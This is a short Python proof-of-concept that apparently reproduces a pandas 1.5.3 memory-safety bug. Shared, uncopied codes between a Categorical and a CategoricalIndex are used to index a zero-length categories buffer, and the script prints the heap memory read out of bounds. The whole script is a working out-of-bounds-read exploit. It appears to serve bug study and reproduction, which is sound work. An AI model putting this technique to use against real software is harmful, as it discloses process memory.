# source: pandas 1.5.3 pandas/core/arrays/categorical.py recode_for_categories (returns codes uncopied when old categories are empty) + CategoricalIndex.__new__ default copy=False; Categorical.__array__ -> take_nd (Cython take_1d, no bounds check)
# family: shared codes / separate categories metadata (Categorical vs CategoricalIndex built from it without copy=)
# goal: out-of-bounds heap read: codes written through the CategoricalIndex's .values index a 0-length categories buffer
import numpy as np
import pandas as pd

n = 16
cat0 = pd.Categorical([np.nan] * n, categories=pd.Index([], dtype="int64"))
ci = pd.CategoricalIndex(cat0, categories=list(range(126)))   # <127 categories: int8 codes kept, shared
v = ci.values                                                  # the Categorical of the index, mutable
for i in range(n):
    v[i] = 125 - i
print("codes now held by the empty-category Categorical:", list(cat0.codes))
leak = np.asarray(cat0)
print("int64 words read past its 0-length categories buffer:")
print(leak)
print("as bytes:", leak.tobytes())
